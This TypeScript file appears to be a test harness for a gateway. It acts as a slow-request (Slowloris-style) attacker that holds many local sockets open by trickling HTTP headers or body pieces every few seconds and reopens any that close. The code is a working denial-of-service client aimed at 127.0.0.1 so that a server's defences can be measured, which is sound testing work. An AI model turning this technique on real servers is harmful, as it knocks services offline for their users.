import { connect, type Socket } from 'node:net';

/**
 * An attacker, in a process of its own: holds sockets open with heads and bodies that come a piece at a time, and
 * opens a new one for each that is closed on it. Says `held` once all stand.
 */

const [port = '0', heads = '0', bodies = '0', token = '', path = ''] = process.argv.slice(2);
const pieceEveryMs = 5_000;
/** Opened no faster than so many in a turn: it is slow sockets that are measured, not a flood of new ones. */
const openedInTurn = 10;
const turnMs = 10;

const credential = `Host: gateway\r\nAuthorization: Bearer ${token}\r\n`;
const kinds = {
  head: { begin: `GET ${path} HTTP/1.1\r\n${credential}`, piece: 'X-A: b\r\n' },
  body: { begin: `POST ${path} HTTP/1.1\r\n${credential}Content-Length: 100000\r\n\r\n`, piece: 'hello' },
} as const;
type Kind = keyof typeof kinds;

const waiting: Kind[] = [
  ...Array.from({ length: Number(heads) }, () => 'head' as const),
  ...Array.from({ length: Number(bodies) }, () => 'body' as const),
];
/** In the order of their next piece: each goes to the end once it has sent one. */
const held = new Map<Socket, { readonly kind: Kind; due: number }>();
const wanted = waiting.length;
let told = false;

function open(kind: Kind): void {
  const socket = connect(Number(port), '127.0.0.1');
  const { begin } = kinds[kind];
  socket.once('connect', () => {
    socket.write(begin);
    held.set(socket, { kind, due: performance.now() + pieceEveryMs });
  });
  socket.on('error', () => undefined);
  socket.once('close', () => {
    held.delete(socket);
    waiting.push(kind);
  });
  socket.resume();
}

setInterval(() => {
  for (const kind of waiting.splice(0, openedInTurn)) open(kind);
  const now = performance.now();
  for (const [socket, one] of held) {
    if (one.due > now) break;
    socket.write(kinds[one.kind].piece);
    one.due = now + pieceEveryMs;
    held.delete(socket);
    held.set(socket, one);
  }
  if (!told && held.size >= wanted) {
    told = true;
    process.stdout.write('held\n');
  }
}, turnMs);
